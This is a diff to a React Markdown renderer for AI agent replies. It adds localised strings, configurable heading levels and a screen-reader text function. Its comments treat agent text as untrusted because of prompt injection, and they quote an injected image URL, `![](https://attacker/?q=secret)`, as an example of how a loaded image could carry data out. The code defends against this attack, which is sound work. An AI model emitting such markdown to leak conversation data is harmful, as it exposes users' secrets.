@@ -3,57 +3,69 @@
 import * as React from 'react';
 import Markdown, { type Components, type Options, type UrlTransform } from 'react-markdown';
 import remarkGfm from 'remark-gfm';
+import { useLocale } from './locale.js';
 import { safeLinkHref, safeWebUrl } from './safeUrl.js';
 
 // An agent's text is untrusted (a prompt injection writes it), so URLs are allow-listed: links may be
 // http(s) or mailto, image sources http(s) only; anything else loses its URL and renders as plain text.
 const urlTransform: UrlTransform = (url, key) => (key === 'href' ? safeLinkHref(url) : safeWebUrl(url));
 
-const NEW_TAB = ' (opens in a new tab)';
+type Level = 1 | 2 | 3 | 4 | 5 | 6;
+type MarkdownStrings = ReturnType<typeof useLocale>['messages']['messages']['markdown'];
 
-const components: Components = {
-  a: ({ node: _node, href, children, ...rest }) =>
-    href ? (
-      <a {...rest} href={href} target="_blank" rel="noopener noreferrer">
-        {children}
-        <span className="agk-visually-hidden">{NEW_TAB}</span>
-      </a>
-    ) : (
-      <span className="agk-markdown__unlinked">{children}</span>
+const level = (n: number): Level => Math.min(6, Math.max(1, n)) as Level;
+
+/** The renderers of a reply's elements: safe links and images, tables that scroll, task boxes, headings from `base`. */
+function componentsFor(strings: MarkdownStrings, base: Level): Components {
+  const heading = (depth: number) => {
+    const Tag = `h${level(base + depth - 1)}` as const;
+    return ({ node: _node, ...rest }: React.HTMLAttributes<HTMLHeadingElement> & { node?: unknown }) => <Tag {...rest} />;
+  };
+  return {
+    a: ({ node: _node, href, children, ...rest }) =>
+      href ? (
+        <a {...rest} href={href} target="_blank" rel="noopener noreferrer">
+          {children}
+          <span className="agk-visually-hidden">{strings.newTab}</span>
+        </a>
+      ) : (
+        <span className="agk-markdown__unlinked">{children}</span>
+      ),
+    // An image the agent names is a link, never loaded by itself: a loaded URL could carry data out of the
+    // conversation (an injected `![](https://attacker/?q=secret)`) without anyone clicking anything.
+    img: ({ src, alt }) =>
+      typeof src === 'string' && src ? (
+        <a href={src} target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
+          {strings.image(alt || src)}
+          <span className="agk-visually-hidden">{strings.newTab}</span>
+        </a>
+      ) : (
+        <span className="agk-markdown__unlinked">{alt ? strings.image(alt) : strings.imageUntitled}</span>
+      ),
+    pre: ({ node: _node, ...rest }) => <pre {...rest} className="agk-code agk-markdown__code" />,
+    // A wide table scrolls inside the reply; the keyboard reaches the scroll area too.
+    table: ({ node: _node, ...rest }) => (
+      // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrollable region must be focusable to be scrolled without a mouse
+      <section className="agk-markdown__table" aria-label={strings.table} tabIndex={0}>
+        <table {...rest} />
+      </section>
     ),
-  // An image the agent names is a link, never loaded by itself: a loaded URL could carry data out of the
-  // conversation (an injected `![](https://attacker/?q=secret)`) without anyone clicking anything.
-  img: ({ src, alt }) =>
-    typeof src === 'string' && src ? (
-      <a href={src} target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
-        Image: {alt || src}
-        <span className="agk-visually-hidden">{NEW_TAB}</span>
-      </a>
-    ) : (
-      <span className="agk-markdown__unlinked">{alt ? `Image: ${alt}` : 'Image'}</span>
-    ),
-  pre: ({ node: _node, ...rest }) => <pre {...rest} className="agk-code agk-markdown__code" />,
-  // A wide table scrolls inside the reply; the keyboard reaches the scroll area too.
-  table: ({ node: _node, ...rest }) => (
-    // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrollable region must be focusable to be scrolled without a mouse
-    <section className="agk-markdown__table" aria-label="Table" tabIndex={0}>
-      <table {...rest} />
-    </section>
-  ),
-  // A task list's box says whether the item is done; it is not a control anyone can tick.
-  input: ({ type, checked }) =>
-    type === 'checkbox' ? (
-      <span className="agk-markdown__task" role="img" aria-label={checked ? 'done' : 'not done'}>
-        {checked ? '☑' : '☐'}
-      </span>
-    ) : null,
-  // A reply sits inside the page's outline (a tool card's title is an h3): its `#` must not become the page's h1.
-  h1: ({ node: _node, ...rest }) => <h3 {...rest} />,
-  h2: ({ node: _node, ...rest }) => <h4 {...rest} />,
-  h3: ({ node: _node, ...rest }) => <h5 {...rest} />,
-  h4: ({ node: _node, ...rest }) => <h6 {...rest} />,
-  h5: ({ node: _node, ...rest }) => <h6 {...rest} />,
-};
+    // A task list's box says whether the item is done; it is not a control anyone can tick.
+    input: ({ type, checked }) =>
+      type === 'checkbox' ? (
+        <span className="agk-markdown__task" role="img" aria-label={checked ? strings.taskDone : strings.taskNotDone}>
+          {checked ? '☑' : '☐'}
+        </span>
+      ) : null,
+    // A reply sits inside the page's outline: its `#` is one level below the heading above the conversation.
+    h1: heading(1),
+    h2: heading(2),
+    h3: heading(3),
+    h4: heading(4),
+    h5: heading(5),
+    h6: heading(6),
+  };
+}
 
 const remarkPlugins: Options['remarkPlugins'] = [remarkGfm];
 
@@ -80,10 +92,12 @@ const prefixFootnoteLabel = (prefix: string) => () => (tree: HastNode) => {
 /**
  * The Markdown renderer `SafeMarkdown` loads on demand (this module, with
  * react-markdown and remark-gfm, is a chunk of its own): raw HTML dropped,
- * URLs allow-listed, images as links, headings from h3, footnote ids under
- * `idPrefix`.
+ * URLs allow-listed, images as links, a `#` heading at `headingLevel`
+ * (default 3) and the others below it, footnote ids under `idPrefix`.
  */
-export function MarkdownBody({ text, idPrefix }: { text: string; idPrefix: string }) {
+export function MarkdownBody({ text, idPrefix, headingLevel = 3 }: { text: string; idPrefix: string; headingLevel?: number }) {
+  const strings = useLocale().messages.messages.markdown;
+  const components = React.useMemo(() => componentsFor(strings, level(headingLevel)), [strings, headingLevel]);
   const { remarkRehypeOptions, rehypePlugins } = React.useMemo(
     () => ({ remarkRehypeOptions: { clobberPrefix: idPrefix }, rehypePlugins: [prefixFootnoteLabel(idPrefix)] }),
     [idPrefix],
@@ -100,4 +114,54 @@ export function MarkdownBody({ text, idPrefix }: { text: string; idPrefix: strin
       {text}
     </Markdown>
   );
+}
+
+type HastText = { type: 'text'; value: string };
+type HastElement = { type: 'element'; tagName: string; properties?: Record<string, unknown>; children?: HastAny[] };
+type HastAny = HastText | HastElement | { type: string; children?: HastAny[] };
+
+const BLOCKS = new Set(['p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'li', 'blockquote', 'pre', 'tr', 'table', 'ul', 'ol', 'hr', 'br', 'div']);
+
+/** The words of a hast tree as a listener hears them: no syntax, table cells separated, blocks apart. */
+function spoken(node: HastAny): string {
+  if (node.type === 'text') return (node as HastText).value;
+  if (node.type !== 'element' && node.type !== 'root') return '';
+  const el = node as HastElement;
+  const p = el.properties ?? {};
+  // Footnote back-links ("↩") and the footnotes section are for the eye; the reply's own words are enough.
+  if ('dataFootnoteBackref' in p || 'dataFootnotes' in p) return '';
+  if (el.tagName === 'img') return typeof p.alt === 'string' ? p.alt : '';
+  const children = el.children ?? [];
+  if (el.tagName === 'tr') {
+    return `${children
+      .filter((c) => c.type === 'element')
+      .map((c) => spoken(c).trim())
+      .join(', ')}.\n`;
+  }
+  const inner = children.map(spoken).join('');
+  return BLOCKS.has(el.tagName) ? `\n${inner}\n` : inner;
+}
+
+/**
+ * Markdown as plain text, for a screen reader's announcement: what the
+ * renderer shows, without `**`, link syntax or table pipes (a table reads
+ * row by row, its cells separated by commas), with the same safety rules
+ * (raw HTML dropped).
+ *
+ * @example
+ * markdownToText('**Refund issued** for [order A-1001](https://shop.example/o/1).'); // 'Refund issued for order A-1001.'
+ */
+export function markdownToText(text: string): string {
+  let tree: HastAny | undefined;
+  const capture = () => (root: HastAny) => {
+    tree = root;
+  };
+  // The synchronous renderer runs its whole pipeline when called; the tree is taken before it becomes React elements.
+  Markdown({ children: text, skipHtml: true, urlTransform, remarkPlugins, rehypePlugins: [capture] });
+  if (!tree) return text;
+  return spoken(tree)
+    .split('\n')
+    .map((line) => line.replace(/\s+/g, ' ').trim())
+    .filter(Boolean)
+    .join(' ');
 }
